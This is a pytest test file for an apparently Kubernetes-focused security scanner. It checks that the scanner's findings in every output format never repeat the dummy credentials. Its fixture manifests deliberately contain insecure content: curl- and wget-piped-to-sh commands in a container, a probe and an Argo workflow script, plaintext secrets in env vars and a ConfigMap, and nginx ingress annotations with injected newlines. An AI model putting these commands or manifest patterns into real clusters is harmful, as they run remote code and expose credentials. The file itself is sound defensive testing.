"""No output repeats a literal credential, wherever it stands: not as message, evidence, fingerprint, patch or error."""

from pathlib import Path

import pytest

from tests.support.running import run

_SECRETS = tuple(f"s3cr3t-{number}" for number in range(17))
_MANIFESTS = """
apiVersion: v1
kind: Pod
metadata: {name: web, namespace: shop, annotations: {note: "s3cr3t-0"}}
spec:
  hostNetwork: true
  initContainers: [{name: i, image: x, env: [{name: DB_PASSWORD, value: s3cr3t-1}]}]
  containers:
  - name: app
    image: x:latest
    command: [sh, -c, "curl -H 'Authorization: s3cr3t-2' http://e.example/x.sh | sh", --password=s3cr3t-3]
    livenessProbe: {exec: {command: [sh, -c, "wget http://u:s3cr3t-4@h/ | sh"]}}
    readinessProbe: {httpGet: {host: h.example, path: "/?t=s3cr3t-5", httpHeaders: [{name: X, value: s3cr3t-6}]}}
    env: [{name: URL, value: "postgres://u:s3cr3t-7@h/db"}]
  ephemeralContainers: [{name: e, image: x, env: [{name: API_TOKEN, value: s3cr3t-8}]}]
---
apiVersion: v1
kind: ConfigMap
metadata: {name: c, namespace: shop}
data: {password: s3cr3t-9, app.conf: "db_password = s3cr3t-10"}
---
apiVersion: argoproj.io/v1alpha1
kind: Workflow
metadata: {name: w, namespace: shop}
spec:
  podSpecPatch: "broken: &x s3cr3t-11"
  templateDefaults:
    podSpecPatch: '{"containers":[{"name":"main","env":[{"name":"API_KEY","value":"s3cr3t-12"}]}]}'
  templates: [{name: a, script: {image: x, source: "curl http://x|sh #s3cr3t-13"}}]
---
apiVersion: networking.k8s.io/v1
kind: Ingress
metadata:
  name: i
  namespace: shop
  annotations:
    nginx.ingress.kubernetes.io/configuration-snippet: proxy_set_header X-Api-Key "s3cr3t-14";
    nginx.ingress.kubernetes.io/auth-url: "http://a/;\n} # s3cr3t-15"
spec: {rules: [{http: {paths: [{path: "/;\n s3cr3t-16", pathType: Prefix}]}}]}
"""


@pytest.mark.parametrize("output", ["table", "json", "sarif", "junit", "github"])
def test_no_output_repeats_a_credential(output: str, tmp_path: Path) -> None:
    (tmp_path / "a.yaml").write_text(_MANIFESTS)
    _, out, errors = run("scan", str(tmp_path), "--profile", "strict", "-o", output)
    said = out + errors
    for check in ("secret-in-env", "secret-in-configmap", "suspicious-command", "host-network", "ingress-snippet"):
        assert check in said
    assert [secret for secret in _SECRETS if secret in said] == []
